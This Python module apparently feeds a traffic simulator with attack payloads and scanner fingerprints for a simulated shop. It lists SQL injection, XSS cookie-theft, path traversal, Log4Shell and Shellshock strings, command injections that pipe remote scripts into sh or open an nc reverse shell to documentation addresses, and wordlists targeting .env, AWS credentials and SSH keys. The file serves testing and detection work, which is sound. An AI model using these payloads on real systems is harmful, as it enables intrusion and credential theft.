"""Attack strings and tool fingerprints the attack scenarios put into requests.

Callback hosts in the payloads are documentation addresses or `.example`
names, so nothing here points at a real host.
"""

from __future__ import annotations

import random
from urllib.parse import quote

SQLI = (
    "' OR '1'='1", "' OR 1=1-- -", "1' AND SLEEP(5)-- -", "1 UNION SELECT NULL,NULL,version()-- -",
    "' UNION SELECT username,password FROM usuarios-- -", "1; DROP TABLE pedidos--",
    "1' AND extractvalue(1,concat(0x7e,(SELECT user())))-- -", "';WAITFOR DELAY '0:0:5'--",
    "1) AND 1=CONVERT(int,@@version)--", "admin'--", "1' ORDER BY 10-- -", "1 AND 1=1",
)
XSS = (
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>", "<svg/onload=alert(1)>",
    "javascript:alert(1)", "'-alert(1)-'", "<iframe src=javascript:alert(1)>", "{{7*7}}",
    "<body onload=fetch('//198.51.100.23/c?'+document.cookie)>",
)
TRAVERSAL = (
    "../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "....//....//....//etc/passwd",
    "..\\..\\..\\windows\\win.ini", "%2e%2e/%2e%2e/%2e%2e/etc/shadow", "../../../etc/passwd%00.jpg",
    "..%252f..%252f..%252fetc%252fpasswd", "file:///etc/passwd", "/proc/self/environ",
)
COMMAND = (
    ";cat /etc/passwd", "|id", "`id`", "$(id)", "; curl http://203.0.113.77/x.sh | sh",
    "&& wget http://198.51.100.23/bot -O /tmp/b", "|| ping -c 3 127.0.0.1", ";nc -e /bin/sh 203.0.113.77 4444",
)
JNDI = (
    "${jndi:ldap://203.0.113.45:1389/Exploit}", "${jndi:ldap://x${hostName}.oast.example/a}",
    "${${lower:j}ndi:${lower:l}dap://198.51.100.9/o}", "${jndi:rmi://203.0.113.45:1099/obj}",
    "${${::-j}${::-n}${::-d}${::-i}:dns://oast.example/p}",
)
FAMILIES = {"sqli": SQLI, "xss": XSS, "traversal": TRAVERSAL, "command": COMMAND, "jndi": JNDI}
SHELLSHOCK = '() { :; }; /bin/bash -c "curl http://203.0.113.77/s.sh | sh"'

# Characters attack tools often leave unencoded in a request target.
_RAW_SAFE = "/'()<>=;:$,{}|*`!@.-_~"


def encode(rng: random.Random, payload: str) -> str:
    """Percent-encode a payload for a request target, fully or leaving the usual raw characters.

    Payloads that are already percent-encoded keep their escapes, as the tool sent them.
    """
    if "%" in payload:
        return payload.replace(" ", "%20")
    if rng.random() < 0.5:
        return quote(payload, safe="")
    return quote(payload, safe=_RAW_SAFE)


SCAN_PATHS = (
    "/.env", "/.env.bak", "/.env.production", "/api/.env", "/.git/config", "/.git/HEAD", "/.svn/entries",
    "/.DS_Store", "/.aws/credentials", "/config.json", "/wp-login.php", "/wp-admin/", "/xmlrpc.php",
    "/wp-content/plugins/", "/phpmyadmin/", "/pma/", "/myadmin/", "/admin.php", "/administrator/",
    "/login.php", "/server-status", "/server-info", "/actuator/env", "/actuator/health",
    "/actuator/heapdump", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/phpinfo.php",
    "/info.php", "/test.php", "/cgi-bin/luci", "/HNAP1/", "/boaform/admin/formLogin",
    "/owa/auth/logon.aspx", "/solr/admin/info/system", "/console/", "/manager/html", "/jenkins/login",
    "/robots.txt", "/sitemap.xml", "/telescope/requests", "/_ignition/execute-solution",
    "/storage/logs/laravel.log", "/config/database.yml", "/web.config", "/WEB-INF/web.xml",
    "/swagger-ui.html", "/v2/api-docs", "/graphql", "/.htaccess", "/.htpasswd", "/docker-compose.yml",
    "/.ssh/id_rsa", "/static/",
)
_BACKUP_NAMES = ("backup", "db", "database", "dump", "www", "site", "tienda", "web", "old", "data")
_BACKUP_EXTENSIONS = (".zip", ".tar.gz", ".sql", ".sql.gz", ".bak", ".rar", ".7z")
_DIRECTORIES = (
    "admin", "backup", "old", "test", "dev", "staging", "tmp", "logs", "private", "uploads", "files",
    "includes", "install", "setup", "panel", "cpanel", "dashboard", "internal", "config", "conf", "db",
    "sql", "scripts", "shop", "store", "export", "api/v2", "v1",
)


def scan_wordlist(rng: random.Random) -> list[str]:
    """Return a scanner's path list: well-known sensitive files first, then guessed backups and directories."""
    guesses = [f"/{name}{ext}" for name in _BACKUP_NAMES for ext in _BACKUP_EXTENSIONS]
    guesses += [f"/{name}/" for name in _DIRECTORIES] + [f"/{name}.php" for name in _DIRECTORIES]
    rng.shuffle(guesses)
    known = list(SCAN_PATHS)
    rng.shuffle(known)
    return known + guesses


def scan_status(path: str) -> tuple[int, int]:
    """Return the shop's (status, body bytes) for a scanned path."""
    if path in ("/robots.txt", "/sitemap.xml"):
        return 200, 412 if path == "/robots.txt" else 98_311
    if path.startswith(("/.git", "/.ht", "/.svn", "/static/", "/server-")):
        return 403, 153
    return 404, 9_800


SCANNER_AGENTS = {
    "sqlmap": "sqlmap/1.8.3#stable (https://sqlmap.org)",
    "nikto": "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{test})",
    "nuclei": "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
    "zgrab": "Mozilla/5.0 zgrab/0.x",
    "masscan": "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "acunetix": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36 Acunetix/15.1",
    "nmap": "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
}
NIKTO_PATHS = (
    "/cgi-bin/test-cgi", "/cgi-bin/printenv", "/icons/README", "/admin/", "/phpinfo.php", "/.git/index",
    "/login.cgi", "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir", "/?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000",
    "/server-status", "/manual/", "/README", "/CHANGELOG.txt", "/install.php", "/sshot.php",
)
NUCLEI_PATHS = (
    "/.env", "/actuator/env", "/wp-json/wp/v2/users", "/?x=${jndi:ldap://${hostName}.oast.example/n}",
    "/.git/config", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "/geoserver/web/",
    "/solr/admin/cores?wt=json", "/api/v1/users?limit=1000", "/.well-known/openid-configuration",
    "/debug/pprof/", "/metrics", "/console/login/LoginForm.jsp", "/remote/fgt_lang?lang=/../../../..//////////dev/",
)
NMAP_REQUESTS = (
    ("GET", "/", "HTTP/1.0"), ("OPTIONS", "/", "HTTP/1.1"), ("GET", "/nice%20ports%2C/Tri%6Eity.txt%2ebak", "HTTP/1.0"),
    ("PROPFIND", "/", "HTTP/1.1"), ("GET", "/HNAP1", "HTTP/1.1"), ("GET", "/robots.txt", "HTTP/1.1"),
    ("POST", "/sdk", "HTTP/1.1"), ("GET", "/evox/about", "HTTP/1.1"), ("GET", "/.git/HEAD", "HTTP/1.1"),
    ("GET", "/favicon.ico", "HTTP/1.1"),
)
ACUNETIX_TARGETS = (
    "/acunetix-wvs-test-for-some-inexistent-file", "/buscar?q=acunetix_wvs_security_test",
    "/buscar?q=%27%22()%26%25<acx><ScRiPt%20>prompt(941)</ScRiPt>", "/login?next=http://bxss.example/",
    "/api/v1/products?categoria=-1%20OR%203*2*1=6%20AND%20000941=000941--", "/WEB-INF/web.xml",
    "/buscar?q=${9999*9999}", "/categoria/hogar?page=1'%22",
)
